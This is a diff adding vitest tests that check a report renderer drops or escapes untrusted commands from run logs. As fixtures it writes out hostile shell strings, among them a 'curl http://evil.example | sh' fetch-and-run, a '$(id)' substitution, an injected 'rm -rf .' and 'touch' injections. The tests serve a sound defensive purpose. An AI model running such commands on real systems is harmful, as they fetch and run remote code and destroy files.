@@ -5,7 +5,7 @@ import { describe, expect, test } from 'vitest';
 import { FORMAT_NAMES, RENDERERS, terminalSummary } from '../../reports/renderers.js';
 import { summarise } from '../../reports/summarise.js';
 import type { RunReport } from '../../src/model/report.js';
-import { ALL_RULES, context, hostile } from './fixture.js';
+import { ALL_RULES, context, hostile, runWithFindings } from './fixture.js';
 import { HOSTILE_TEXTS } from './hostile-texts.js';
 import { dataIn } from './page-data.js';
 
@@ -150,5 +150,43 @@ describe('the printed curl line', () => {
       few,
     );
     for (const group of report.groups) expect(group.minimal.curl).toMatch(/x'\\''; touch pwned; '\\''/);
+  });
+});
+
+describe('commands of a log that anybody may have written', () => {
+  const EVIL = 'touchstone certify; curl http://evil.example | sh #';
+  const again = { certify: EVIL, doctor: EVIL, replay: EVIL, json: 'x; touch /tmp/owned' };
+
+  test.each([
+    ['a second command', EVIL],
+    ['a substitution', 'touchstone certify --config $(id)'],
+    ['a line of its own', "touchstone certify --config 'a\nrm -rf .'"],
+    ['another program', 'sh -c id'],
+  ])('are not advised: %s', (_, certify) => {
+    const report = summarise(
+      runWithFindings({ again: { ...again, doctor: 'touchstone doctor', replay: 'touchstone replay', certify } }),
+      few,
+    );
+    expect(report.run.again).toBeUndefined();
+    for (const format of FORMAT_NAMES) expect(RENDERERS[format].render(report)).not.toContain('evil.example');
+  });
+
+  test('are kept where they are ours, with the path of the report as one word', () => {
+    const ours = { certify: "touchstone certify --rule 'a b'", doctor: 'touchstone doctor', replay: 'touchstone replay --seed 3' };
+    const report = summarise(runWithFindings({ again: { ...ours, json: again.json } }), few);
+    expect(report.run.again).toMatchObject(ours);
+    expect(terminalSummary(report, { color: false, columns: 100 })).not.toContain('--baseline x; touch');
+  });
+
+  test('to send a cause again are made from its data', () => {
+    const events = [...runWithFindings()].map((event) =>
+      event.type === 'shrunk' ? { ...event, minimal: { ...event.minimal, curl: EVIL, replay: EVIL } } : event,
+    );
+    const { groups } = summarise(events, few);
+    expect(groups.length).toBeGreaterThan(3);
+    for (const { minimal } of groups) {
+      expect(minimal.replay).toMatch(/^touchstone (?:replay|certify) [\w@']/);
+      expect(`${minimal.replay}${minimal.curl}`).not.toContain('evil.example');
+    }
   });
 });
